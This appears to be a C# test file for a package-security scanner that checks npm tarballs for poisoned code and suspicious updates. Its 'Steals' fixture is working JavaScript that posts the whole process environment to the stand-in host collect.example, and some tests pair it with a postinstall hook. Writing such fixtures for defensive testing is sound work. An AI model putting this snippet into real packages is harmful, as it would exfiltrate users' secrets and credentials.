using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using System.Text.Json;
using Xunit;

namespace Wellguard;

/// <summary><c>scan</c> and <c>diff</c> of package files, as a user types them.</summary>
public sealed class PackageTests : IDisposable
{
    private const string Honest = "exports.add = (a, b) => a + b\n";
    private const string Steals = Honest + "const https = require('https')\nconst out = https.request({ host: 'collect.example', path: '/u', method: 'POST' })\nout.write(JSON.stringify(process.env))\nout.end()\n";

    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("wellguard-package-");

    public void Dispose() => folder.Delete(recursive: true);

    private string Tarball(string name, string manifest, string code)
    {
        var path = Path.Combine(folder.FullName, name);
        using var gzip = new GZipStream(File.Create(path), CompressionLevel.Fastest);
        using var tar = new TarWriter(gzip, TarEntryFormat.Ustar);
        foreach (var (file, text) in ((string, string)[])[("package/package.json", manifest), ("package/index.js", code)])
        {
            tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, file) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(text)) });
        }

        return path;
    }

    [Fact]
    public async Task A_poisoned_package_is_blocked_with_its_trigger_and_flow()
    {
        var run = await Executable.RunAsync("scan", Tarball("a-1.0.1.tgz", """{"name":"a","version":"1.0.1"}""", Steals), "--no-cache", "--format", "json");
        Assert.Equal(1, run.Code);
        using var report = JsonDocument.Parse(run.Output);
        Assert.Equal("pkg:npm/a@1.0.1", report.RootElement.GetProperty("artifact").GetProperty("purl").GetString());
        var signal = report.RootElement.GetProperty("signals").EnumerateArray().First();
        Assert.Equal(("package/index.js", "runs when it is imported"), (signal.GetProperty("where").GetProperty("path").GetString(), signal.GetProperty("trigger").GetString()));
    }

    [Fact]
    public async Task Too_little_memory_is_told_and_judges_nothing()
    {
        var code = string.Concat(Enumerable.Range(0, 60_000).Select(static at => $"fetch('http://example.test/{at}', [{at}, '{new string('a', 100)}']);\n"));
        var run = await Executable.RunAsync(("DOTNET_GCHeapHardLimit", "3000000"), "scan", Tarball("a-1.0.1.tgz", """{"name":"a","version":"1.0.1"}""", code), "--no-cache");
        Assert.True(run.Code == 3, $"{run.Code}\n{run.Output}\n{run.Errors}");
        Assert.Contains("memory", run.Output + run.Errors, StringComparison.Ordinal);
        Assert.DoesNotContain("   at ", run.Errors, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_poisoned_update_is_blocked_and_reads_like_a_review()
    {
        var old = Tarball("a-1.0.0.tgz", """{"name":"a","version":"1.0.0"}""", Honest);
        var now = Tarball("a-1.0.1.tgz", """{"name":"a","version":"1.0.1","scripts":{"postinstall":"node index.js"}}""", Steals);
        var run = await Executable.RunAsync("diff", old, now);
        Assert.Equal(1, run.Code);
        Assert.Contains("Against the version before", run.Output, StringComparison.Ordinal);
        Assert.Contains("postinstall: node index.js", run.Output, StringComparison.Ordinal);
        Assert.Contains("speaks to the network: index.js", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_both_versions_do_is_no_reason()
    {
        var old = Tarball("a-1.0.0.tgz", """{"name":"a","version":"1.0.0"}""", Steals);
        var run = await Executable.RunAsync("diff", old, Tarball("a-1.0.1.tgz", """{"name":"a","version":"1.0.1"}""", Steals + "exports.more = 1\n"));
        Assert.Equal(0, run.Code);
    }

    [Theory]
    [InlineData(2, "no such file", "/none/a.tgz", "/none/b.tgz")]
    [InlineData(3, "neither an image", "/etc/hostname", "/etc/hostname")]
    public async Task What_cannot_be_compared_is_told(int code, string what, string old, string now)
    {
        var run = await Executable.RunAsync("diff", old, now);
        Assert.Equal(code, run.Code);
        Assert.Contains(what, run.Output + run.Errors, StringComparison.Ordinal);
        Assert.DoesNotContain("   at ", run.Output + run.Errors, StringComparison.Ordinal);
    }

    private string Source(params string[] files)
    {
        var source = folder.CreateSubdirectory("source");
        foreach (var pair in files.Chunk(2))
        {
            File.WriteAllText(Path.Combine(source.FullName, pair[0]), pair[1]);
        }

        return source.FullName;
    }

    [Fact]
    public async Task What_only_the_archive_has_comes_first_in_a_comparison_with_its_source()
    {
        var source = Source("package.json", """{"name":"a","version":"1.0.1"}""", "index.js", Honest);
        File.CreateSymbolicLink(Path.Combine(source, "outside"), "/proc");
        var package = Tarball("a-1.0.1.tgz", """{"name":"a","version":"1.0.1","scripts":{"postinstall":"node index.js"}}""", Honest);
        var run = await Executable.RunAsync("scan", package, "--source", source, "--no-cache");
        Assert.Equal(0, run.Code);
        Assert.Contains("SUSPICIOUS", run.Output, StringComparison.Ordinal);
        Assert.Contains("Runs by itself what its source does not have", run.Output, StringComparison.Ordinal);
        Assert.Contains("Against its source", run.Output, StringComparison.Ordinal);
        Assert.Contains("its source runs nothing: npm runs it when the package is installed: postinstall", string.Join(' ', run.Output.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries)), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_update_that_is_as_its_source_is_only_an_update()
    {
        var old = Tarball("a-1.0.0.tgz", """{"name":"a","version":"1.0.0"}""", Honest);
        var now = Tarball("a-1.0.1.tgz", """{"name":"a","version":"1.0.1"}""", Honest + "exports.more = 1\n");
        var run = await Executable.RunAsync("diff", old, now, "--source", Source("package.json", """{"name":"a","version":"1.0.1"}""", "index.js", Honest + "exports.more = 1\n"), "--format", "json");
        Assert.Equal(0, run.Code);
        using var report = JsonDocument.Parse(run.Output);
        Assert.Equal((2, 0), (report.RootElement.GetProperty("source").GetProperty("same").GetInt32(), report.RootElement.GetProperty("source").GetProperty("other").GetInt32()));
        Assert.Equal("clean", report.RootElement.GetProperty("verdict").GetProperty("level").GetString());
    }

    [Theory]
    [InlineData(2, "--source /none: no such directory", "/none")]
    [InlineData(2, "--source /etc/hostname: is not a directory", "/etc/hostname")]
    [InlineData(3, "holds no file", "")]
    [InlineData(3, "has no package.json that names a", "", "package.json", "{\"name\":\"b\"}")]
    public async Task A_source_that_cannot_be_compared_is_told(int code, string what, string place, params string[] files)
    {
        var run = await Executable.RunAsync("scan", Tarball("a-1.0.1.tgz", """{"name":"a","version":"1.0.1"}""", Honest), "--no-cache", "--source", place.Length > 0 ? place : Source(files));
        Assert.Equal(code, run.Code);
        Assert.Contains(what, string.Join(' ', (run.Output + run.Errors).Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries)), StringComparison.Ordinal);
        Assert.DoesNotContain("CLEAN", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_source_is_of_one_package()
    {
        var package = Tarball("a-1.0.1.tgz", """{"name":"a","version":"1.0.1"}""", Honest);
        var source = Source("package.json", """{"name":"a"}""");
        Assert.Equal((2, 2), ((await Executable.RunAsync("scan", package, package, "--source", source)).Code, (await Executable.RunAsync("scan", source, "--source", source)).Code));
    }
}
